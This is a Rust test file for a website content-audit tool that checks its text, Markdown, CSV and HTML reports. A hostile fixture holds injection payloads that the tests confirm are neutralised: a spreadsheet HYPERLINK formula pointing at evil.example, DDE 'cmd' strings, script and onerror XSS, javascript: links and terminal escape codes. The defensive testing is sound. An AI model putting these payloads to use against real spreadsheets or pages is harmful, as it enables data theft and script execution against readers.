//! The forms of an audit: what an admin, a spreadsheet, a tracker and a browser are given.

use std::collections::BTreeMap;

use jiff::civil::date;
use serde_json::json;
use vademecum::audit::{
    Accepted, Audit, EarlierRegister, Finding, FindingPage, Gone, Severity, Standing, Status, Subject, Unchecked,
};
use vademecum::config::Accept;
use vademecum::content::Freshness;
use vademecum::output::{
    AuditStyle, audit_csv, audit_html, audit_markdown, audit_text, changes_in_words, read_register, register_csv,
    register_html,
};

use super::harness::TODAY;

fn page(id: u64, slug: &str, title: &str) -> FindingPage {
    FindingPage {
        id,
        title: title.to_owned(),
        link: format!("https://www.example.org/{slug}/"),
        edit_link: format!("https://www.example.org/wp-admin/post.php?post={id}&action=edit"),
    }
}

fn finding(check: &str, severity: Severity, page: FindingPage, sentence: &str, marked: &str, action: &str) -> Finding {
    let marks = sentence.find(marked).map(|at| {
        let from = sentence[..at].chars().count() as u32;
        (from, from + marked.chars().count() as u32)
    });
    Finding {
        id: format!("{check}-{:010x}", page.id),
        check: check.to_owned(),
        severity,
        status: None,
        url: page.link.clone(),
        page,
        section: Vec::new(),
        anchor: None,
        sentence: (!sentence.is_empty()).then(|| sentence.to_owned()),
        marks: marks.into_iter().filter(|(from, to)| from < to).collect(),
        action: action.to_owned(),
        evidence: BTreeMap::new(),
        subject: None,
        linked_from: 0,
    }
}

fn standing(page: &FindingPage, above: &[&str], reviewed: &str, status: Freshness) -> Standing {
    Standing {
        id: page.id,
        title: page.title.clone(),
        link: page.link.clone(),
        breadcrumb: above.iter().map(|&name| name.to_owned()).collect(),
        reviewed: reviewed.parse().ok(),
        reviewer: (!reviewed.is_empty()).then(|| "Dr Ada Larch".to_owned()),
        due: None,
        status,
        age: String::new(),
        edited: Some(date(2026, 6, 1)),
        newest_source: Some(2018),
        sources: 4,
        words: 1234,
        text_hash: "0123456789abcdef".to_owned(),
    }
}

fn audit_of(findings: Vec<Finding>, standings: Vec<Standing>) -> Audit {
    let mut counts: BTreeMap<&'static str, usize> = BTreeMap::from([("overdue", 0), ("missing-alt", 0)]);
    for finding in &findings {
        if let Some(count) = counts.get_mut(finding.check.as_str()) {
            *count += 1;
        }
    }
    Audit {
        version: 1,
        as_of: TODAY,
        sites: vec!["https://www.example.org".to_owned()],
        pages: standings.len(),
        exempt: 0,
        checks: vec!["overdue", "missing-alt"],
        counts,
        findings,
        accepted: Vec::new(),
        gone: None,
        unchecked: Vec::new(),
        standings,
    }
}

/// Two pages with three findings, held against an earlier audit.
fn example() -> Audit {
    let (drug, food) = (page(7, "methotrexate", "Methotrexate"), page(8, "food", "Eating & drinking"));
    let overdue = Finding {
        status: Some(Status::StillOpen),
        subject: Some(Subject::Drug),
        linked_from: 12,
        evidence: BTreeMap::from([("due".to_owned(), json!("2026-10-31")), ("max_age_months".to_owned(), json!(24))]),
        ..finding(
            "overdue",
            Severity::Error,
            drug.clone(),
            "Page last reviewed: October 2024",
            "Page last reviewed: October 2024",
            "Have the page reviewed (last: Dr Ada Larch), and state the new date; its review lapsed with Oct 2026.",
        )
    };
    let alt = Finding {
        status: Some(Status::New),
        linked_from: 12,
        section: vec!["Taking it".to_owned(), "The folic acid *rule*".to_owned()],
        ..finding(
            "missing-alt",
            Severity::Warning,
            drug.clone(),
            "tablets_10mg.jpg",
            "tablets_10mg.jpg",
            "Add an `alt` text that says what the image shows; an empty one if it is decoration.",
        )
    };
    let other = json!({"title": "Choking", "link": "https://www.example.org/choking/"});
    let recent = Finding {
        status: Some(Status::New),
        linked_from: 1,
        evidence: BTreeMap::from([("other_page".to_owned(), other)]),
        ..finding(
            "relative-time",
            Severity::Warning,
            food.clone(),
            "Researchers in Größe have recently found that small sips and an upright seat help most people who cough.",
            "recently",
            "Say when, or leave the word out.",
        )
    };
    let standings = vec![
        standing(&food, &["Living well"], "", Freshness::Unverified),
        standing(&drug, &["Treatments"], "2024-10", Freshness::Overdue),
        standing(&page(9, "about", "About us"), &[], "2026-05", Freshness::Reviewed),
    ];
    let mut audit = audit_of(vec![overdue, alt, recent.clone()], standings);
    audit.exempt = 1;
    audit.gone = Some(vec![Gone {
        id: "overdue-00000000ff".to_owned(),
        check: "overdue".to_owned(),
        page: page(9, "about", "About us"),
        sentence: Some("Reviewed in 2019".to_owned()),
    }]);
    audit.accepted = vec![Accepted {
        finding: recent,
        accept: Accept {
            id: "relative-time-0000000008".to_owned(),
            who: "Jo Field".to_owned(),
            why: "it quotes the charity's founder".to_owned(),
            until: date(2027, 1, 1),
        },
    }];
    audit.unchecked = vec![Unchecked {
        check: "broken-internal-link".to_owned(),
        number: 7,
        text: "7 links could not be checked: the export has no posts".to_owned(),
    }];
    audit
}

/// A page whose every text tries to be run.
fn hostile() -> Audit {
    let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    let mut page = page(66, "evil", title);
    "javascript:alert(document.domain)".clone_into(&mut page.link);
    "data:text/html,<script>alert(1)</script>".clone_into(&mut page.edit_link);
    let mut bad = finding(
        "overdue",
        Severity::Error,
        page.clone(),
        "</script><script>alert(1)</script> @team see #12 <img src=x onerror=alert(1)> \u{1b}[31m\u{202e}",
        "<script>alert(1)</script>",
        "-2+3+cmd|' /C calc'!A0",
    );
    bad.section = vec!["@SUM(1+1)*cmd|' /C calc'!A0".to_owned(), "</td></table><h1>free</h1>".to_owned()];
    "vbscript:msgbox(1)".clone_into(&mut bad.url);
    bad.evidence
        .insert("other".to_owned(), json!({"title": "<script>alert(2)</script>", "link": "javascript:alert(3)"}));
    bad.evidence.insert("said".to_owned(), json!(["https://x.example/\"><script>alert(4)</script>", "=1+1"]));
    audit_of(vec![bad], vec![standing(&page, &["<b>+1</b>"], "2020-01", Freshness::Overdue)])
}

fn written(write: impl FnOnce(&mut dyn std::io::Write) -> anyhow::Result<()>) -> String {
    let mut text = Vec::new();
    write(&mut text).unwrap();
    String::from_utf8(text).unwrap()
}

/// Text without the codes that colour it.
fn plain(audit: &Audit, pages: Option<usize>) -> String {
    let coloured = written(|to| audit_text(audit, AuditStyle { width: 80, pages }, to));
    let mut text = String::new();
    let mut parts = coloured.split('\u{1b}');
    text.push_str(parts.next().unwrap_or_default());
    for part in parts {
        text.push_str(part.split_once('m').map_or("", |(_, after)| after));
    }
    text
}

#[test]
fn text_goes_page_by_page_and_ends_in_counts() {
    insta::assert_snapshot!(plain(&example(), None), @r#"
    Methotrexate
      https://www.example.org/methotrexate/
      https://www.example.org/wp-admin/post.php?post=7&action=edit
      Treatments · 12 pages link here · about drugs

      error   overdue-0000000007 · still open
          “Page last reviewed: October 2024”
        → Have the page reviewed (last: Dr Ada Larch), and state the new date; its
          review lapsed with Oct 2026.

      warning missing-alt-0000000007 · new
          “tablets_10mg.jpg”
          in Taking it › The folic acid *rule*
        → Add an `alt` text that says what the image shows; an empty one if it is
          decoration.


    Eating & drinking
      https://www.example.org/food/
      https://www.example.org/wp-admin/post.php?post=8&action=edit
      Living well · 1 page links here

      warning relative-time-0000000008 · new
          “Researchers in Größe have recently found that small sips and an upright
          seat help most people who cough.”
        → Say when, or leave the word out.
          other page: Choking
          https://www.example.org/choking/


    On 22 Nov 2026, 3 findings on 2 of 3 pages: 1 error, 2 warnings
    Against the baseline: 2 new, 1 still open, 1 gone
      overdue           1
      missing-alt       1

    Gone since the baseline
      overdue on About us: “Reviewed in 2019”

    Accepted
      relative-time-0000000008 on Eating & drinking
        by Jo Field until 1 Jan 2027: it quotes the charity's founder

    Could not be checked
      broken-internal-link: 7 links could not be checked: the export has no posts

    1 page left out by path
    "#);
}

#[test]
fn text_is_cut_after_the_pages_asked_for_and_says_so() {
    let text = plain(&example(), Some(1));
    assert!(text.contains("Methotrexate") && !text.contains("/food/"), "{text}");
    assert!(text.contains("1 more page has findings"), "{text}");
    assert!(text.contains("3 findings on 2 of 3 pages"), "{text}");
}

#[test]
fn text_marks_the_place_and_steers_no_terminal() {
    let text = written(|to| audit_text(&example(), AuditStyle { width: 80, pages: None }, to));
    assert!(text.contains("have \u{1b}[1m\u{1b}[33mrecently\u{1b}[0m found"), "{text}");
    let text = written(|to| audit_text(&hostile(), AuditStyle { width: 80, pages: None }, to));
    assert!(!text.contains("\u{1b}[31m\u{202e}") && !text.contains('\u{202e}'), "{text}");
}

#[test]
fn an_audit_without_findings_says_so() {
    let text = plain(&audit_of(Vec::new(), example().standings), None);
    insta::assert_snapshot!(text, @r#"
    On 22 Nov 2026, no findings on 3 pages
      found nothing: overdue, missing-alt
    "#);
}

#[test]
fn markdown_is_a_checklist() {
    insta::assert_snapshot!(written(|to| audit_markdown(&example(), to)), @r#"
    # Pages to look at on www.example.org

    On 22 Nov 2026, 3 findings on 2 of 3 pages: 1 error, 2 warnings. Against the baseline: 2 new, 1 still open, 1 gone.

    ## [Methotrexate](https://www.example.org/methotrexate/)

    [Edit](https://www.example.org/wp-admin/post.php?post=7&action=edit) · Treatments · 12 pages link here · about drugs

    - [ ] **error** (still open) `overdue-0000000007`: Have the page reviewed (last: Dr Ada Larch), and state the new date; its review lapsed with Oct 2026.
      > **Page last reviewed: October 2024**
    - [ ] **warning** (new) `missing-alt-0000000007`: Add an `alt` text that says what the image shows; an empty one if it is decoration.
      > **tablets\_10mg.jpg** ([The folic acid \*rule\*](https://www.example.org/methotrexate/))

    ## [Eating \& drinking](https://www.example.org/food/)

    [Edit](https://www.example.org/wp-admin/post.php?post=8&action=edit) · Living well · 1 page links here

    - [ ] **warning** (new) `relative-time-0000000008`: Say when, or leave the word out.
      > Researchers in Größe have **recently** found that small sips and an upright seat help most people who cough.
      - other page: [Choking](https://www.example.org/choking/)

    ## Gone since the baseline

    - [x] `overdue` [About us](https://www.example.org/about/): “Reviewed in 2019”

    ## Accepted

    - `relative-time-0000000008` [Eating \& drinking](https://www.example.org/food/), by Jo Field until 1 Jan 2027: it quotes the charity's founder

    ## Could not be checked

    - `broken-internal-link` 7 links could not be checked: the export has no posts
    "#);
}

#[test]
fn markdown_runs_nothing_calls_nobody_and_refers_to_nothing() {
    let text = written(|to| audit_markdown(&hostile(), to));
    for live in ["<script", "<img", "@team", "#12", "javascript:", "vbscript:", "data:", "\u{1b}"] {
        assert!(!text.replace("\\<", "").contains(live), "{live} in {text}");
    }
}

#[test]
fn csv_has_a_finding_a_row() {
    let text = written(|to| audit_csv(&example(), to));
    insta::assert_snapshot!(text.strip_prefix('\u{feff}').unwrap(), @r#"
    "severity","check","status","title","section","sentence","marked","action","subject","linked_from","url","edit_link","evidence","page_id","id"
    "error","overdue","still open","Methotrexate","","Page last reviewed: October 2024","Page last reviewed: October 2024","Have the page reviewed (last: Dr Ada Larch), and state the new date; its review lapsed with Oct 2026.","drug",12,"https://www.example.org/methotrexate/","https://www.example.org/wp-admin/post.php?post=7&action=edit","due: 2026-10-31; max age months: 24",7,"overdue-0000000007"
    "warning","missing-alt","new","Methotrexate","Taking it › The folic acid *rule*","tablets_10mg.jpg","tablets_10mg.jpg","Add an `alt` text that says what the image shows; an empty one if it is decoration.","",12,"https://www.example.org/methotrexate/","https://www.example.org/wp-admin/post.php?post=7&action=edit","",7,"missing-alt-0000000007"
    "warning","relative-time","new","Eating & drinking","","Researchers in Größe have recently found that small sips and an upright seat help most people who cough.","recently","Say when, or leave the word out.","",1,"https://www.example.org/food/","https://www.example.org/wp-admin/post.php?post=8&action=edit","other page: Choking (https://www.example.org/choking/)",8,"relative-time-0000000008"
    "#);
}

#[test]
fn a_formula_in_a_title_is_text_in_csv() {
    let audit = hostile();
    let changes = EarlierRegister { as_of: None, standings: audit.standings.clone() }.until(&[]);
    let forms = [written(|to| audit_csv(&audit, to)), written(|to| register_csv(&audit, Some(&changes), to))];
    for text in forms {
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in &record.unwrap() {
                cells += 1;
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            }
        }
        assert!(cells > 10);
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
    }
}

#[test]
fn a_script_in_a_page_is_text_in_html() {
    let audit = hostile();
    for html in [written(|to| audit_html(&audit, to)), written(|to| register_html(&audit, None, to))] {
        for live in [
            "<script>",
            "<img",
            "<h1>free",
            "href=\"javascript",
            "href=\"data:",
            "href=\"vbscript",
            "onerror=alert(1)>",
        ] {
            assert!(!html.contains(live), "{live}");
        }
        assert!(html.contains("=HYPERLINK("));
    }
    assert!(written(|to| audit_html(&audit, to)).contains("<mark>&#60;script&#62;alert(1)&#60;/script&#62;</mark>"));
}

#[test]
fn html_lets_only_its_own_style_and_script_run_and_asks_nobody() {
    for html in [written(|to| audit_html(&example(), to)), written(|to| register_html(&example(), None, to))] {
        let policy = html.split("Content-Security-Policy\" content=\"").nth(1).and_then(|rest| rest.split('"').next());
        let policy = policy.unwrap();
        assert!(policy.starts_with("default-src 'none'; style-src 'nonce-"), "{policy}");
        let nonce = policy.split("nonce-").nth(1).unwrap().split('\'').next().unwrap();
        assert_eq!(nonce.len(), 32);
        for tag in ["<style", "<script"] {
            assert!(html.matches(tag).count() == html.matches(&format!("{tag} nonce=\"{nonce}\"")).count(), "{tag}");
        }
        for outside in ["src=", "url(", "@import", "<link", "style=\"", "<iframe", " on"] {
            let found =
                html.match_indices(outside).find(|(at, _)| outside != " on" || html[at + 3..].starts_with("click"));
            assert_eq!(found, None);
        }
    }
    let other = written(|to| audit_html(&hostile(), to));
    assert_ne!(other.split("nonce-").nth(1), written(|to| audit_html(&example(), to)).split("nonce-").nth(1));
}

#[test]
fn a_register_has_every_page_and_is_read_again() {
    let audit = example();
    let text = written(|to| register_csv(&audit, None, to));
    insta::assert_snapshot!(text.strip_prefix('\u{feff}').unwrap(), @r#"
    "page_id","title","link","above","last_review","reviewer","next_due","status","last_edit","newest_source","sources","words","findings","errors","text_hash","as_of"
    8,"Eating & drinking","https://www.example.org/food/","Living well","","","","unverified","2026-06-01",2018,4,1234,1,0,"0123456789abcdef","2026-11-22"
    7,"Methotrexate","https://www.example.org/methotrexate/","Treatments","2024-10","Dr Ada Larch","","overdue","2026-06-01",2018,4,1234,2,1,"0123456789abcdef","2026-11-22"
    9,"About us","https://www.example.org/about/","","2026-05","Dr Ada Larch","","reviewed","2026-06-01",2018,4,1234,0,0,"0123456789abcdef","2026-11-22"
    "#);
    let register = read_register(&text).unwrap();
    assert_eq!(register, EarlierRegister { as_of: Some(TODAY), standings: audit.standings.clone() });
    // As a spreadsheet of another country saves it.
    let saved = text.replace(',', ";").replace('"', "").replace('\n', "\r\n");
    assert_eq!(read_register(&saved).unwrap().standings.len(), 3);
    // What stands in its cells is read as it was before it was made harmless.
    let hostile = hostile();
    let read = read_register(&written(|to| register_csv(&hostile, None, to))).unwrap();
    assert_eq!(read.standings, hostile.standings);
}

#[test]
fn two_registers_say_what_was_reviewed_between_them() {
    let before = example();
    let earlier = read_register(&written(|to| register_csv(&before, None, to))).unwrap();
    let mut now = example();
    now.as_of = date(2027, 2, 1);
    now.standings[1].reviewed = "2027-01".parse().ok();
    "changed".clone_into(&mut now.standings[2].text_hash);
    now.standings.remove(0);
    now.standings.push(standing(&page(10, "new", "A new page"), &[], "", Freshness::Unverified));
    let changes = earlier.until(&now.standings);
    assert_eq!(
        changes_in_words(&changes),
        "Since the register of 22 Nov 2026: 1 page new, 1 page reviewed, 1 page edited, 1 page gone."
    );
    let text = written(|to| register_csv(&now, Some(&changes), to));
    let changes: Vec<&str> = text.lines().skip(1).map(|line| line.rsplit(',').next().unwrap()).collect();
    assert_eq!(changes, ["\"reviewed\"", "\"edited\"", "\"new\"", "\"gone\""]);
    // What was gone already is not gone again.
    assert_eq!(read_register(&text).unwrap().standings.len(), 3);
}

#[test]
fn what_is_no_register_is_refused_with_the_remedy() {
    for (text, told) in [
        ("a,b\n1,2\n", "`page_id`"),
        ("page_id,link,last_review,text_hash\nseven,x,,y\n", "`page_id` is `seven`"),
        ("page_id,link,last_review,text_hash\n7,x,soon,y\n", "line 2"),
    ] {
        let error = format!("{:#}", read_register(text).unwrap_err());
        assert!(error.contains(told), "{error}");
    }
}
